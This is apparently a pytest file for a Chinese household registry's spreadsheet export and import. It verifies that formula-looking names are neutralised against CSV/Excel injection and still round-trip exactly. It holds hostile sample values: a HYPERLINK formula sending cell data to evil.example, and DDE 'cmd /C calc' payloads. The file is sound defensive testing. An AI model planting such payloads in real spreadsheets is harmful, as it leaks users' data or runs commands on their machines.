"""Issue 11 #10: formula-looking text (=HYPERLINK(…), +cmd|…, -…, @SUM(…)) in names and other free text
is written behind an apostrophe (OWASP, CSV/Excel injection) in every sheet we write — the export, the
error sheet, the summary — and the importer removes exactly that apostrophe: import → export → import
is exact (fupin/sheets/formulas.py)."""

from __future__ import annotations

import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from fupin.registry.choices import Relation
from fupin.registry.models import Household
from fupin.sheets import cells
from fupin.sheets.columns import COLUMNS
from fupin.sheets.export import export_households
from fupin.sheets.formulas import echo, neutralise, restore
from tests import factories
from tests.sheets.builders import STANDARD_HEADERS, xlsx_bytes
from tests.sheets.test_import import family

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
DDE = "+cmd|' /C calc'!A0"
HOSTILE = {"head": HYPERLINK, "spouse": DDE, "bank": "@SUM(1+1)*cmd|' /C calc'!A0", "son": "-2+3+cmd|' /C calc'!A0",
           # after leading blanks, and one that legitimately starts with an apostrophe
           "daughter": "\t=1+1", "mother": "'=1+1"}
NAME = next(c for c in COLUMNS if c.header == "姓名")


def _hostile_household(tree, actor, *, blank_led: bool = True):
    extra = [(Relation.SON, "1", "son"), (Relation.MOTHER, "2", "mother")]
    extra += [(Relation.DAUGHTER, "2", "daughter")] if blank_led else []
    members = [factories.member_data(Relation.HEAD, "1", name=HOSTILE["head"]),
               factories.member_data(Relation.SPOUSE, "2", name=HOSTILE["spouse"]),
               *[factories.member_data(relation, sex, name=HOSTILE[key]) for relation, sex, key in extra]]
    return factories.household(tree["village_a1"], actor=actor, number="5303241002010001", members=members,
                               bank_name=HOSTILE["bank"])


def _exported(tree, county_user, *, blank_led: bool = True) -> bytes:
    _hostile_household(tree, county_user, blank_led=blank_led)
    buffer = io.BytesIO()
    export_households(Household.objects.all(), buffer)
    return buffer.getvalue()


@pytest.mark.django_db
def test_formula_looking_text_is_exported_behind_an_apostrophe_as_plain_text(tree, county_user):
    book = openpyxl.load_workbook(io.BytesIO(_exported(tree, county_user)))
    sheet = book.worksheets[0]
    headers = [c.value for c in sheet[1]]
    names = {sheet.cell(row=r, column=headers.index("姓名") + 1) for r in range(2, sheet.max_row + 1)}
    written = {c.value: c.data_type for c in names}
    assert set(written) == {"'" + HYPERLINK, "'" + DDE, "'" + HOSTILE["son"], "'\t=1+1", "''=1+1"}
    assert set(written.values()) == {"s"}  # text cells, never formulas
    bank = sheet.cell(row=2, column=headers.index("开户银行") + 1)
    assert (bank.value, bank.data_type) == ("'" + HOSTILE["bank"], "s")
    head_name = sheet.cell(row=2, column=headers.index("户主姓名") + 1)
    assert head_name.value == "'" + HYPERLINK


@pytest.mark.django_db
def test_import_export_import_is_exact_with_formula_looking_text(tree, county_user):
    from fupin.sheets.importer import plan_import
    from fupin.sheets.reader import read_table

    # (A name led by a tab is exported behind an apostrophe too, but any import drops leading blanks.)
    data = _exported(tree, county_user, blank_led=False)
    plan = plan_import(read_table(io.BytesIO(data), "export.xlsx"), actor=county_user)
    assert [p.message for p in plan.all_problems() if p.level == "error"] == []
    assert {h.number: h.action for h in plan.households} == {"5303241002010001": "unchanged"}
    table = read_table(io.BytesIO(data), "export.xlsx")
    assert {cells.parse(NAME, row.values.get("姓名")) for row in table.rows} == {
        HYPERLINK, DDE, HOSTILE["son"], "'=1+1"}


@pytest.mark.django_db
def test_an_apostrophe_typed_in_excel_before_a_formula_reads_as_the_text_after_it(tree, county_user):
    # A cadre's own sheet: "'=1" typed into a CSV (or a cell whose value keeps the apostrophe) is Excel's
    # text mark, not part of the name; a name merely starting with an apostrophe keeps it.
    assert cells.parse(NAME, "'=1+1") == "=1+1"
    assert cells.parse(NAME, "'s Gravenhage") == "'s Gravenhage"
    assert cells.parse(NAME, "''=1") == "'=1"


@given(st.text(alphabet=st.sampled_from("'=+-@ \t\r\na张＝"), max_size=8))
def test_the_rule_is_reversible_for_any_text(value):
    written = neutralise(value)
    assert restore(written) == value
    assert written[:1] not in set("=+-@＝＋－＠\t\r")  # nothing Excel would take for a formula
    assert restore(echo(value)) == restore(value)  # the error sheet reads back as its upload did


@pytest.mark.django_db
def test_the_error_sheet_echoes_hostile_cells_neutralised_and_they_read_back_as_uploaded(tree, county_user,
                                                                                       tmp_path):
    from fupin.sheets.errorsheet import write_error_sheet
    from fupin.sheets.importer import plan_import
    from fupin.sheets.reader import read_table

    rows = [STANDARD_HEADERS, *family("5303241002010002", n=3)]
    name_col = STANDARD_HEADERS.index("姓名")
    rows[1][name_col] = HYPERLINK
    rows[2][name_col] = "'" + DDE  # already behind an apostrophe: written as it came
    rows[2][STANDARD_HEADERS.index("性别")] = "男"  # the wife's ID says female: an error
    plan = plan_import(read_table(io.BytesIO(xlsx_bytes(rows)), "上报.xlsx"), actor=county_user)
    out = tmp_path / "errors.xlsx"
    assert write_error_sheet(plan, out) >= 1
    sheet = openpyxl.load_workbook(out).worksheets[0]
    assert [sheet.cell(row=r, column=name_col + 1).value for r in (2, 3)] == ["'" + HYPERLINK, "'" + DDE]
    again = read_table(io.BytesIO(out.read_bytes()), "errors.xlsx")
    assert [cells.parse(NAME, r.values.get("姓名")) for r in again.rows] == [HYPERLINK, DDE]


@pytest.mark.django_db
def test_the_summary_neutralises_area_names(tree, county_user):
    from fupin.sheets.summary import export_summary, summary_tables

    factories.area("530324100299", HYPERLINK)  # a village whose name came from somewhere hostile
    buffer = io.BytesIO()
    export_summary(summary_tables(county_user, tree["township_a"]), buffer)
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    names = [sheet.cell(row=r, column=2).value for r in range(2, sheet.max_row + 1)]
    assert "'" + HYPERLINK in names and HYPERLINK not in names
